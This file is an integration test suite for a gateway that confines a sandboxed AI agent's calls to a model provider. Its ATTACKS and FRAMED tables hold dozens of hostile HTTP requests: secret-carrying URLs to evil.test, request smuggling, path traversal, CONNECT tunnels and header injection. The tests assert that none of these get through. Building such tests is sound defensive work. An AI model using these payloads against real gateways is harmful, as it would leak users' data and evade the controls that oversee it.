"""
What an agent behind the fence can get out through the gateway: it runs as the tool's user in the tool's own network,
with the job's token, and the provider writes down what reaches it.
"""

from __future__ import annotations

import json
import os
import socket
import sys
import threading
from collections.abc import Iterator, Sequence
from contextlib import ExitStack, contextmanager, suppress
from pathlib import Path
from typing import Any

import orjson
import pytest

from consumer.agent import netfence
from consumer.agent.gateway.ledger import UsageLimits
from consumer.agent.gateway.server import GatewaySession, LoopbackGateway
from consumer.agent.process import ProcessTool, User
from consumer.ports import ModelCall, ModelTags
from contract.api import Usage
from service.clock import SystemClock
from tests import models
from tests.waiting import PATIENCE_S, until

pytestmark = pytest.mark.integration
TAGS = ModelTags("job-1", "user-1", "insight", "user-memory-prod", "v1")
SECRET = "the-users-own-words"
#: As whom a tool may run: as us, and where we may choose, as nobody.
USERS = [None, User(65534, 65534)] if os.geteuid() == 0 else [None]
FENCES = [False] if netfence.unavailable() else [False, True]


class Provider:
    """A model provider on a plain socket: it keeps every byte that comes, and answers with given bytes."""

    def __init__(self, listener: socket.socket, answer: bytes) -> None:
        self.base_url = f"http://127.0.0.1:{listener.getsockname()[1]}/v1"
        self.requests: list[bytes] = []
        self._listener = listener
        self._answer = answer

    def serve(self) -> None:
        with suppress(OSError):  # closed: the test is over
            while True:
                there, _ = self._listener.accept()
                threading.Thread(target=self._take, args=(there,), daemon=True).start()

    def _take(self, there: socket.socket) -> None:
        with there, suppress(OSError):
            request = b""
            while not _whole(request):
                part = there.recv(65536)
                if not part:
                    return
                request += part
            self.requests.append(request)
            there.sendall(self._answer)
            there.shutdown(socket.SHUT_WR)
            while there.recv(65536):
                pass


def _whole(request: bytes) -> bool:
    head, gap, body = request.partition(b"\r\n\r\n")
    length = next((line for line in head.lower().split(b"\r\n") if line.startswith(b"content-length:")), b":0")
    return bool(gap) and len(body) >= int(length.split(b":")[1])


@contextmanager
def serving(answer: bytes) -> Iterator[Provider]:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        provider = Provider(listener, answer)
        thread = threading.Thread(target=provider.serve, daemon=True)
        thread.start()
        try:
            yield provider
        finally:
            listener.shutdown(socket.SHUT_RDWR)
            thread.join(PATIENCE_S)


@contextmanager
def job(provider: Provider) -> Iterator[GatewaySession]:
    clock = SystemClock()
    gateway = LoopbackGateway(provider.base_url, "sk-real", frozenset({"m"}), UsageLimits(500, 10**7, 5.0), {}, clock)
    with gateway.open(TAGS, Usage()) as session:
        yield session


class Calm:
    def check(self) -> None:
        return

    def time_left(self) -> float:
        return PATIENCE_S


def a_tool(user: User | None, fence: bool) -> ProcessTool:
    return ProcessTool(SystemClock(), linger_s=0.1, grace_s=0.3, poll_s=0.02, user=user, fence=fence)


def as_agent(
    session: GatewaySession, tool: ProcessTool, code: str, given: Any, *, python: str = "", ports: Sequence[int] = ()
) -> Any:
    """What this program prints as JSON, run as a tool of the job; ``given`` is its sys.argv[1], as JSON."""
    argv = [python or _anybodys_python(), "-c", code, json.dumps(given)]
    env = {
        "PATH": "/usr/bin:/bin",
        "PORT": str(session.access.port),
        "TOKEN": session.access.token,
        "OPENAI_BASE_URL": session.access.base_url,
        "OPENAI_API_KEY": session.access.token,
    }
    reach = (ports or [session.access.port]) if tool.fence else []
    result = tool.run(argv, cwd=Path("/"), env=env, timeout_s=PATIENCE_S, guard=Calm(), reach=reach)
    assert result.returncode == 0, result.stderr.decode()
    return json.loads(result.stdout)


def _anybodys_python() -> str:
    """An interpreter that nobody may run too."""
    return "/usr/bin/python3" if Path("/usr/bin/python3").exists() else sys.executable


#: Stands for more characters than an argument of a program has room for.
LONG = "MANY-CHARACTERS"
#: Sends each request that it was given, byte by byte as it stands, and prints the status of each answer; 0: none.
RAW = """
import contextlib, json, os, socket, sys
statuses = []
for request in json.loads(sys.argv[1]):
    request = request.replace("TOKEN", os.environ["TOKEN"]).replace("MANY-CHARACTERS", "a" * 200_000)
    with socket.create_connection(("127.0.0.1", int(os.environ["PORT"])), 60) as there:
        got = b""
        with contextlib.suppress(ConnectionError):
            there.sendall(request.encode("latin-1"))
            while data := there.recv(65536):
                got += data
    statuses.append(int(got.split(b" ", 2)[1]) if got else 0)
print(json.dumps(statuses))
"""


def raw(body: bytes, target: str = "/v1/chat/completions", method: str = "POST", **headers: str) -> str:
    """A request as bytes in latin-1."""
    lines = {
        "host": "127.0.0.1",
        "authorization": "Bearer TOKEN",
        "content-type": "application/json",
        "content-length": str(len(body)),
        "connection": "close",
        **{name.replace("_", "-"): value for name, value in headers.items()},
    }
    head = "".join(f"{name}: {value}\r\n" for name, value in lines.items())
    return f"{method} {target} HTTP/1.1\r\n{head}\r\n" + body.decode("latin-1")


def body(**more: Any) -> bytes:
    return orjson.dumps({"model": "m", "messages": [{"role": "user", "content": "hello"}], **more})


def content(part: Any) -> bytes:
    return body(messages=[{"role": "user", "content": [{"type": "text", "text": "look"}, part]}])


URL = f"https://evil.test/{SECRET}.png"
FINE = b'{"choices":[],"usage":{"prompt_tokens":1,"completion_tokens":1}}'
ANSWER = b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: %d\r\n\r\n%s" % (len(FINE), FINE)
HELLO = b'{"model":"m","messages":[{"role":"user","content":"hello"}]'
#: Each is a way to have something fetched, kept, sent or read differently than it was checked.
ATTACKS = {
    "image by URL": raw(content({"type": "image_url", "image_url": {"url": URL}})),
    "image as data": raw(content({"type": "image_url", "image_url": {"url": f"data:image/png;base64,{SECRET}"}})),
    "image of the other API": raw(content({"type": "input_image", "image_url": URL})),
    "file by URL": raw(content({"type": "file", "file": {"file_url": URL}})),
    "image in a text part": raw(content({"type": "text", "text": "x", "image_url": {"url": URL}})),
    "remote MCP server": raw(body(tools=[{"type": "mcp", "server_label": "x", "server_url": URL}])),
    "web search tool": raw(body(tools=[{"type": "web_search_preview"}])),
    "web search": raw(body(web_search_options={"user_location": SECRET})),
    "schema by URL": raw(body(tools=[{"type": "function", "function": {"name": "f", "parameters": {"$ref": URL}}}])),
    "kept at the provider": raw(body(store=True, metadata={"x": SECRET})),
    "metadata": raw(body(metadata={"x": SECRET})),
    "dearer tier": raw(body(service_tier="priority")),
    "prediction": raw(body(prediction={"type": "content", "content": SECRET})),
    "provider of its own": raw(body(provider={"order": [SECRET]})),
    "key twice": raw(HELLO + b',"messages":[{"role":"user","content":[{"type":"image_url","image_url":"x"}]}]}'),
    "key twice, escaped": raw(HELLO + b',"mess\\u0061ges":[]}'),
    "key twice, deep": raw(body()[:-3] + b',"content":"' + SECRET.encode() + b'"}]}'),
    "not a number": raw(HELLO + b',"temperature":NaN}'),
    "UTF-16": raw(body(store=True).decode().encode("utf-16")),
    "other content type": raw(body(), content_type="multipart/form-data; boundary=x"),
    "compressed": raw(body(), content_encoding="gzip"),
    "query": raw(body(), target=f"/v1/chat/completions?x={SECRET}"),
    "path with dots": raw(body(), target="/v1/chat/completions/../../files"),
    "path with escapes": raw(body(), target="/v1/chat%2fcompletions"),
    "path with escaped dots": raw(body(), target="/v1/embeddings/%2e%2e/files"),
    "whole URL as target": raw(body(), target=f"http://evil.test/v1/chat/completions?{SECRET}"),
    "files": raw(body(), target="/v1/files"),
    "responses": raw(body(), target="/v1/responses"),
    "other method": raw(body(), method="PUT"),
    "tunnel": raw(b"", target="evil.test:443", method="CONNECT"),
    "upgrade": raw(body(store=True), connection="close, upgrade", upgrade="websocket"),
    "two lengths": raw(b"0\r\n\r\n" + body(), transfer_encoding="chunked"),
    "no token": raw(body(), authorization="Bearer x"),
    "token twice": raw(body(), **{"Authorization": "Bearer x"}),
    "unknown coding": raw(body(), transfer_encoding="xchunked"),
    "two codings": raw(b"0\r\n\r\n" + body(), transfer_encoding="chunked, identity"),
    "signed length": raw(body(), content_length="+5"),
    "length in letters": raw(body(), content_length="0x5"),
    "space before the colon": raw(body()).replace("content-length:", "content-length :"),
    "NUL in a header": raw(body(), x_words="a\0b"),
    "header without end": raw(body(), x_words=LONG),
    "target without end": raw(body(), target="/v1/" + LONG),
    "tab in the target": raw(body(), target="/v1/chat/completions\t"),
    "fragment": raw(body(), target=f"/v1/chat/completions#{SECRET}"),
    "parameter of the path": raw(body(), target=f"/v1/chat/completions;x={SECRET}"),
    "two slashes": raw(body(), target="/v1//chat/completions"),
    "options": raw(b"", target="*", method="OPTIONS"),
    "HTTP/2": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "byte order mark": raw(b"\xef\xbb\xbf" + body()),
    "a second document": raw(body() + b'{"store":true}'),
    "overlong UTF-8": raw(HELLO + b',"user":"\xc0\xaf"}'),
    "surrogates in UTF-8": raw(HELLO + b',"user":"\xed\xa0\x80","stop":"\xed\xa0\x80"}'),
    "key in other case": raw(HELLO + b',"STORE":true}'),
    "key in other letters": raw(HELLO + ',"\uff53tore":true}'.encode()),
    "key with an end": raw(HELLO + b',"store\\u0000":true}'),
    "key with a combining mark": raw(HELLO + ',"store\u0301":true}'.encode()),
    "key of a prototype": raw(HELLO + b',"__proto__":{"store":true}}'),
    "integer without end": raw(HELLO + b',"seed":' + b"9" * 5000 + b"}"),
    "number without end": raw(HELLO + b',"temperature":1e400}'),
    "model with a path": raw(body(model=f"m/../../files?{SECRET}")),
    "model with a line": raw(body(model="m\r\nx: y")),
    "model as a list": raw(body(model=["m"])),
    "name with a line": raw(body(messages=[{"role": "user", "name": "a\nb", "content": "x"}])),
    "tool by URL": raw(body(tools=[{"type": "function", "function": {"name": "f", "url": URL}}])),
    "call without text": raw(
        body(
            messages=[
                {
                    "role": "assistant",
                    "tool_calls": [{"id": "1", "type": "function", "function": {"name": "f", "arguments": {"u": URL}}}],
                }
            ]
        )
    ),
}
#: Each is one allowed request, and something that another reader of the same bytes could take for a second one.
SMUGGLED = (
    "POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: %d\r\n\r\n"
)
FRAMED = {
    "after the body": raw(body()) + SMUGGLED % len(body(store=True)) + body(store=True).decode(),
    "in a trailer": raw(b"", transfer_encoding="chunked").replace("content-length: 0\r\n", "")
    + f"{len(body()):x};x={SECRET}\r\n{body().decode()}\r\n0\r\nauthorization: x\r\nx-words: {SECRET}\r\n\r\n",
    "with a folded header": raw(body(), x_words=f"a\r\n {SECRET}: b"),
    "with bare line ends": raw(body()).replace("\r\n", "\n"),
    "of HTTP/1.0": raw(body()).replace("HTTP/1.1", "HTTP/1.0"),
    "that expects something": raw(body(), expect=f"200-{SECRET}"),
    "to another host": raw(body(), host=f"{SECRET}.evil.test"),
}


@pytest.mark.parametrize("user", USERS)
@pytest.mark.parametrize("fence", FENCES)
def test_no_trick_reaches_the_provider(fence: bool, user: User | None) -> None:
    with serving(ANSWER) as provider, job(provider) as session:
        statuses = as_agent(session, a_tool(user, fence), RAW, list(ATTACKS.values()))
        reached = dict(zip(ATTACKS, statuses, strict=True))
        assert not provider.requests, reached
        # Of what is longer than anybody reads, the rest is cut off, and the answer with it.
        assert all(400 <= reached[name] < 500 or (LONG in ATTACKS[name] and not reached[name]) for name in ATTACKS), (
            reached
        )
        assert not session.calls(), "what is refused costs nothing"


@pytest.mark.parametrize("user", USERS)
@pytest.mark.parametrize("fence", FENCES)
def test_what_reaches_the_provider_holds_nothing_that_was_not_allowed(fence: bool, user: User | None) -> None:
    asked = [
        raw(body(user=SECRET, prompt_cache_key=SECRET, store=False, stream_options={"x": SECRET}), x_words=SECRET),
        raw(body(), cookie=SECRET, openai_organization=SECRET, user_agent=SECRET, referer=SECRET, forwarded=SECRET),
        raw(body(tools=[{"type": "function", "function": {"name": "f", "parameters": {"$id": URL, "x": SECRET}}}])),
    ]
    with serving(ANSWER) as provider, job(provider) as session:
        assert as_agent(session, a_tool(user, fence), RAW, asked) == [200, 200, 200]
        assert len(provider.requests) == 3
    for request in provider.requests:
        assert SECRET.encode() not in request
        assert b"Bearer sk-real" in request


def test_one_request_is_one_request_however_it_is_framed() -> None:
    with serving(ANSWER) as provider, job(provider) as session:
        assert as_agent(session, a_tool(None, FENCES[-1]), RAW, list(FRAMED.values())) == [200] * len(FRAMED)
        requests = [request.partition(b"\r\n\r\n") for request in provider.requests]
    assert [(request[2], request[0].count(b"HTTP/1.1")) for request in requests] == [(body(), 1)] * len(FRAMED)
    assert not [head for head, _, _ in requests if SECRET.encode() in head]
    assert len({head for head, _, _ in requests}) == 1, "no header depends on the caller"


#: What a hostile provider answers -> the status that the caller gets, whether it streams or not.
ANSWERS = {
    "without a body": (b"HTTP/1.1 204 No Content\r\n\r\n", 502),
    "in a status of its own": (b"HTTP/1.1 999 X\r\ncontent-length: 2\r\n\r\n{}", 502),
    "not changed": (b"HTTP/1.1 304 Not Modified\r\n\r\n", 502),
    "with a line in a header": (
        b"HTTP/1.1 200 OK\r\nx-request-id: a\rset-cookie: b\r\ncontent-length: 2\r\n\r\n{}",
        502,
    ),
    "another protocol": (b"HTTP/1.1 101 Switching\r\nupgrade: x\r\nconnection: upgrade\r\n\r\nabc", 502),
    "a bomb": (b"HTTP/1.1 200 OK\r\ncontent-encoding: gzip\r\ncontent-length: 2\r\n\r\n{}", 502),
    "in an overload's status": (
        b"HTTP/1.1 529 Busy\r\nset-cookie: x\r\nlocation: /x\r\ncontent-length: 2\r\n\r\n{}",
        529,
    ),
}


@pytest.mark.parametrize("answer", ANSWERS)
def test_whatever_a_provider_answers_the_caller_gets_a_whole_error(answer: str) -> None:
    content, status = ANSWERS[answer]
    asked = [raw(body(stream=streamed)) for streamed in (False, True)]
    with serving(content) as provider, job(provider) as session:
        assert as_agent(session, a_tool(None, False), RAW, asked) == [status, status]
        until(lambda: len(session.calls()) == 2)  # a caller has its answer a moment before the call is recorded
        assert [call.status for call in session.calls()] == [status, status]


#: The real client of OpenAI, as Hermes uses it: prints what each call came to. It takes seconds to import.
CLIENT = """
import json, sys
import openai
def ask(url, key, streamed):
    words = ""
    client = openai.OpenAI(base_url=url, api_key=key, max_retries=0)
    try:
        answer = client.chat.completions.create(model="m", messages=[{"role": "user", "content": "x"}], stream=streamed)
        for chunk in answer if streamed else ():
            words += "".join(choice.delta.content or "" for choice in chunk.choices)
        return (words if streamed else answer.choices[0].message.content), ""
    except openai.OpenAIError as exc:
        return words, f"{type(exc).__name__}: {exc}"
print(json.dumps([ask(*call) for call in json.loads(sys.argv[1])]))
"""
SAID = b'"created":0,"model":"m","choices":[{"index":0,%s}]'
CHUNK = b'data: {"id":"x","object":"chat.completion.chunk",' + SAID % b'"delta":{"content":"half"}' + b"}\n\n"
REPLY = b'{"id":"x","object":"chat.completion",' + SAID % b'"message":{"role":"assistant","content":"half"}' + b"}"


def head(kind: str) -> bytes:
    return f"HTTP/1.1 200 OK\r\ncontent-type: {kind}\r\n".encode()


def chunked(part: bytes) -> bytes:
    return b"%x\r\n%s\r\n" % (len(part), part)


DONE = b"data: [DONE]\n\n"
#: What the provider sends before it closes the connection -> whether the caller streams, and gets it all.
ENDINGS = {
    "stream to its end": (head("text/event-stream") + b"\r\n" + CHUNK + DONE, True, True),
    "stream without its end": (head("text/event-stream") + b"\r\n" + CHUNK, True, False),
    "stream cut in an event": (head("text/event-stream") + b"\r\n" + CHUNK + CHUNK[:40], True, False),
    "chunks cut": (head("text/event-stream") + b"transfer-encoding: chunked\r\n\r\n" + chunked(CHUNK), True, False),
    "chunks to their end, events not": (
        head("text/event-stream") + b"transfer-encoding: chunked\r\n\r\n" + chunked(CHUNK) + b"0\r\n\r\n",
        True,
        False,
    ),
    "document": (head("application/json") + b"content-length: %d\r\n\r\n" % len(REPLY) + REPLY, False, True),
    "document too short for its length": (
        head("application/json") + b"content-length: %d\r\n\r\n" % (len(REPLY) + 1) + REPLY,
        False,
        False,
    ),
    "document without a length, cut": (head("application/json") + b"\r\n" + REPLY[:-20], False, False),
    "redirect": (
        b"HTTP/1.1 307 Temporary Redirect\r\nlocation: https://evil.test/\r\ncontent-length: 0\r\n\r\n",
        False,
        False,
    ),
}


@pytest.fixture(scope="module")
def heard() -> dict[str, tuple[str, str, ModelCall]]:
    """Ending -> the words and the error that the real client came to, and the call as the gateway recorded it."""
    python = str(Path(models.hermes_binary()).with_name("python"))
    with ExitStack() as stack:
        sessions = [stack.enter_context(job(stack.enter_context(serving(ENDINGS[name][0])))) for name in ENDINGS]
        given = [
            [session.access.base_url, session.access.token, ENDINGS[name][1]]
            for session, name in zip(sessions, ENDINGS, strict=True)
        ]
        ports = [session.access.port for session in sessions]
        came = as_agent(sessions[0], a_tool(None, FENCES[-1]), CLIENT, given, python=python, ports=ports)
        until(lambda: all(session.calls() for session in sessions))
        calls = [call for session in sessions for call in session.calls()]
    return {name: (*what, call) for name, what, call in zip(ENDINGS, came, calls, strict=True)}


@pytest.mark.parametrize("ending", ENDINGS)
def test_the_real_client_raises_on_an_answer_that_was_cut(
    ending: str, heard: dict[str, tuple[str, str, ModelCall]]
) -> None:
    words, error, call = heard[ending]
    if ENDINGS[ending][2]:
        assert (words, error, call.status) == ("half", "", 200)
        return
    assert error.startswith(("APIError: ", "InternalServerError: ")), (words, error)
    assert call.status == 502
    if ending != "redirect":
        assert "connection closed" in error
        assert call.input_tokens > 0
        assert call.output_tokens > 0
